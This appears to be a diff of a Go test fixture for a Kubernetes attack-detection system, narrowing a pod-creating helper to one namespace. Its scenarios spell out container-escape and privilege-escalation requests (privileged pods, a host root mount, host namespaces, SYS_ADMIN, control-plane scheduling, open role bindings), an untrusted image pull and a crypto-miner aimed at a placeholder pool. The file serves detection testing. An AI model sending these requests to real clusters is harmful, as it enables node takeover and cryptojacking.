@@ -20,9 +20,9 @@ func bind(name, role, subject string) string {
 	return fmt.Sprintf(`POST %s {"metadata":{"name":%q},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":%q},"subjects":[%s]}`, clusterBindings, name, role, subject)
 }
 
-// pod makes a pod.
-func pod(space, name, spec string) string {
-	return fmt.Sprintf(`POST /api/v1/namespaces/%s/pods {"metadata":{"name":%q},"spec":%s}`, space, name, spec)
+// pod makes a pod of the shop.
+func pod(name, spec string) string {
+	return fmt.Sprintf(`POST /api/v1/namespaces/shop/pods {"metadata":{"name":%q},"spec":%s}`, name, spec)
 }
 
 func escalation() []Act {
@@ -41,13 +41,13 @@ func escalation() []Act {
 		plain("role that leads further", stolen, rules("role-leads-further"), clusterRole("helper-exec", `""`, `"pods/exec"`, `"create"`), clusterRole("helper-token", `""`, `"serviceaccounts/token"`, `"create"`)),
 		plain("rights for nobody", stolen, rules("anonymous-granted"), bind("open", "view", `{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}`), "DELETE "+clusterBindings+"/open"),
 		plain("rights for everybody", stolen, rules("everybody-bound"), bind("all", "view", `{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:authenticated"}`), "DELETE "+clusterBindings+"/all"),
-		plain("privileged pod", stolen, rules("privileged-pod"), pod("shop", "x1", `{"containers":[{"name":"a",`+box+`,"securityContext":{"privileged":true}}]}`)),
-		plain("root of the node mounted", stolen, rules("sensitive-host-path"), pod("shop", "x2", `{"containers":[{"name":"a",`+box+`,"volumeMounts":[{"name":"h","mountPath":"/h"}]}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}`)),
-		plain("namespaces of the node", stolen, rules("host-namespaces"), pod("shop", "x3", `{"hostPID":true,"hostNetwork":true,"containers":[{"name":"a",`+box+`}]}`)),
-		plain("dangerous capability", stolen, rules("dangerous-capabilities"), pod("shop", "x4", `{"containers":[{"name":"a",`+box+`,"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}]}`)),
-		plain("on the control plane", stolen, rules("on-control-plane", "node-chosen"), pod("shop", "x5", `{"nodeName":"control-plane","tolerations":[{"key":"node-role.kubernetes.io/control-plane","operator":"Exists"}],"containers":[{"name":"a",`+box+`}]}`)),
-		plain("image of a stranger", mallory, rules("untrusted-image"), pod("shop", "x6", `{"containers":[{"name":"a","image":"198.51.100.9:5000/tools:latest"}]}`)),
-		plain("miner", mallory, rules("miner-started"), pod("shop", "x7", `{"containers":[{"name":"a","image":"docker.io/shop/xmrig:6","args":["-o","stratum+tcp://pool.example:3333"]}]}`)),
+		plain("privileged pod", stolen, rules("privileged-pod"), pod("x1", `{"containers":[{"name":"a",`+box+`,"securityContext":{"privileged":true}}]}`)),
+		plain("root of the node mounted", stolen, rules("sensitive-host-path"), pod("x2", `{"containers":[{"name":"a",`+box+`,"volumeMounts":[{"name":"h","mountPath":"/h"}]}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}`)),
+		plain("namespaces of the node", stolen, rules("host-namespaces"), pod("x3", `{"hostPID":true,"hostNetwork":true,"containers":[{"name":"a",`+box+`}]}`)),
+		plain("dangerous capability", stolen, rules("dangerous-capabilities"), pod("x4", `{"containers":[{"name":"a",`+box+`,"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}]}`)),
+		plain("on the control plane", stolen, rules("on-control-plane", "node-chosen"), pod("x5", `{"nodeName":"control-plane","tolerations":[{"key":"node-role.kubernetes.io/control-plane","operator":"Exists"}],"containers":[{"name":"a",`+box+`}]}`)),
+		plain("image of a stranger", mallory, rules("untrusted-image"), pod("x6", `{"containers":[{"name":"a","image":"198.51.100.9:5000/tools:latest"}]}`)),
+		plain("miner", mallory, rules("miner-started"), pod("x7", `{"containers":[{"name":"a","image":"docker.io/shop/xmrig:6","args":["-o","stratum+tcp://pool.example:3333"]}]}`)),
 	}
 }
 
